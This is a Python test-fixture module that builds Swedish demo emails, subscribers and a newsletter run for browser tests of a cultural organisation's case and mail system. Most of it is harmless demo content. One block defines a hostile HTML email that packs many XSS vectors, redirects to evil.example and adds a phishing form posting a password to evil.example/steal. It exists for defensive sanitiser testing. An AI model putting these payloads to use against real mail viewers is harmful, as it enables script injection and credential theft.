"""Realistic Swedish demo data for the browser tests and the screenshots, made through the real code paths:
mail goes through the inbound pipeline, subscribers through ``subscribers.service``, the newsletter
through ``mailer.campaigns``."""

from __future__ import annotations

import threading
from dataclasses import dataclass
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import formatdate
from pathlib import Path
from typing import TYPE_CHECKING

from inbound.classify import Route
from mailer import worker
from subscribers import service as subscriber_service
from subscribers.models import Channel, Status
from subscribers.service import Evidence
from tests.conftest import ORG_ADDRESS

if TYPE_CHECKING:
    from tests.browser.conftest import LiveServer

NEWSLETTER_EXAMPLE = Path(__file__).parents[2] / "templates" / "newsletter" / "exempel.md"


@dataclass(frozen=True)
class Actor:
    name: str
    email: str


NORRLYSET = Actor("Ateljé Norrlyset", "info@norrlyset.example")
STRANGNAS = Actor("Strängnäs kulturförening", "ordforande@strangnaskultur.example")
VINGEN = Actor("Maria Lind, Teater Vingen", "maria@teatervingen.example")
JAZZ = Actor("Eskilstuna Jazzklubb", "styrelsen@eskilstunajazz.example")


def mail(
    actor: Actor,
    subject: str,
    text: str,
    *,
    message_id: str,
    html: str | None = None,
) -> bytes:
    """One mail from ``actor`` to the organisation, as a mail client would write it."""
    msg = EmailMessage()
    local, domain = actor.email.split("@")
    msg["From"] = Address(actor.name, local, domain)
    msg["To"] = ORG_ADDRESS
    msg["Subject"] = subject
    msg["Date"] = formatdate(localtime=True)
    msg["Message-ID"] = f"<{message_id}>"
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return msg.as_bytes(policy=SMTP)


NORRLYSET_QUESTION = mail(
    NORRLYSET,
    "Fråga om utvecklingscheck för vår keramikverkstad",
    "Hej!\n\nVi är två keramiker som driver Ateljé Norrlyset i Trosa. Vi vill prova att sälja "
    "kurser i drejning till företag som teambuilding och undrar om det kan passa för en kreativ "
    "utvecklingscheck.\n\nKan man söka som enskild firma, och hur stor del måste vi finansiera själva?\n\n"
    "Vänliga hälsningar\nLinnea Holm\nAteljé Norrlyset",
    message_id="fraga-1@norrlyset.example",
)

DEMO_CASES = [
    NORRLYSET_QUESTION,
    mail(
        STRANGNAS,
        "Lokal och publik till vår höstfestival",
        "Hej Kulturkluster!\n\nSträngnäs kulturförening planerar en tredagars höstfestival med musik, "
        "poesi och hantverk i september. Vi söker tips på lokaler runt Mälaren och vill gärna "
        "samarbeta med andra föreningar i länet.\n\nFinns det någon ni tycker att vi ska prata med?\n\n"
        "Med vänlig hälsning\nGöran Ek, ordförande",
        message_id="festival-2026@strangnaskultur.example",
    ),
    mail(
        VINGEN,
        "Samarbete med skolor i Katrineholm",
        "Hej!\n\nTeater Vingen har en föreställning om källkritik för mellanstadiet. Hur hittar vi "
        "rätt person på kommunerna för att boka skolföreställningar?\n\nTack på förhand!\nMaria Lind",
        message_id="skolor@teatervingen.example",
    ),
    mail(
        JAZZ,
        "Hur når vi nya medlemmar?",
        "Hej,\n\nVår jazzklubb har tappat många medlemmar sedan pandemin. Har ni erfarenhet av "
        "marknadsföring för ideella föreningar, eller kurser vi kan gå?\n\nHälsningar\nStyrelsen",
        message_id="medlemmar@eskilstunajazz.example",
    ),
]

DEMO_SUBSCRIBERS = [
    ("anna.berg@kulturmejl.example", "Anna Berg"),
    ("erik.sjoberg@musikhuset.example", "Erik Sjöberg"),
    ("fatima.yusuf@dansstudion.example", "Fatima Yusuf"),
    ("goran.ek@strangnaskultur.example", "Göran Ek"),
    ("info@norrlyset.example", "Ateljé Norrlyset"),
    ("johan@flenteatern.example", "Johan Åberg"),
    ("karin.lund@nykopingsbibliotek.example", "Karin Lund"),
    ("sara.nilsson@konsthallen.example", "Sara Nilsson"),
]

# An actor's mail that tries everything a hostile HTML mail can: every payload would call the page's
# ``kkPwned`` binding, change the staff page's title, open a dialog, log KK-PWNED, or leave the page.
_PWN = "try{window.top.document.title='PWNED'}catch(e){};" + "alert('PWNED');console.log('KK-PWNED');"
_CALL = "(window.kkPwned||parent.kkPwned||top.kkPwned)('{}');"
MALICIOUS_HTML = f"""<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<style>
.cover {{ position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647;
          background: #c00; }}
body {{ pointer-events: none; }}
</style>
<script>{_PWN}{_CALL.format("script")}</script>
</head>
<body onload="{_PWN}{_CALL.format("body-onload")}">
<div class="cover">Ditt konto är spärrat – klicka här</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:red">
  Viktigt meddelande</div>
<p>Hej! Vi har en fråga om <b>bidrag</b> till vår förening.</p>
<img src="x" onerror="{_PWN}{_CALL.format("img-onerror")}">
<img src="https://evil.example/pixel.gif" alt="spårpixel">
<a href="javascript:{_PWN}{_CALL.format("javascript-link")}">Läs mer här</a>
<a href="/app/logout">Relativ länk</a>
<svg onload="{_PWN}{_CALL.format("svg-onload")}"><circle r="5"></circle></svg>
<iframe src="javascript:{_PWN}{_CALL.format("iframe-src")}"></iframe>
<iframe srcdoc="&lt;script&gt;{_PWN}{_CALL.format("iframe-srcdoc")}&lt;/script&gt;"></iframe>
<form action="https://evil.example/steal" method="post">
  <input name="password" placeholder="Lösenord"><button>Logga in igen</button></form>
<details open ontoggle="{_PWN}{_CALL.format("details-ontoggle")}"><summary>Mer</summary>x</details>
<object data="javascript:{_PWN}{_CALL.format("object")}"></object>
<embed src="javascript:{_PWN}{_CALL.format("embed")}">
<math><mtext><table><mglyph><style><img src=x onerror="{_PWN}{_CALL.format("mxss")}"></style></mglyph></table></mtext></math>
</body></html>
"""

MALICIOUS = Actor("Kulturföreningen Fri Kod", "fri@kod.example")
MALICIOUS_MAIL = mail(
    MALICIOUS,
    "Fråga om bidrag till vår förening",
    "Hej! Vi har en fråga om bidrag till vår förening.",
    html=MALICIOUS_HTML,
    message_id="elak-1@kod.example",
)


def add_cases(server: LiveServer, *raws: bytes) -> None:
    routes = server.deliver(*raws)
    assert routes == [Route.NEW_CASE] * len(raws), routes


def add_subscribers(server: LiveServer, people: list[tuple[str, str]]) -> None:
    evidence = Evidence(Channel.STAFF, detail="added for a browser test", actor="sam")
    with server.services.db.unit_of_work() as session:
        for email, name in people:
            subscriber_service.add(session, email, name, Status.ACTIVE, evidence)


def run_mailer_once(server: LiveServer) -> None:
    """What ``kulturkluster mailer run --once`` does: send what may go now, then return."""
    sender = server.services.make_sender()
    try:
        worker.run(
            sender,
            threading.Event(),
            poll_interval=server.services.settings.mailer.poll_interval,
            once=True,
            before_round=server.services.flush_outbox,
        )
    finally:
        sender.close()
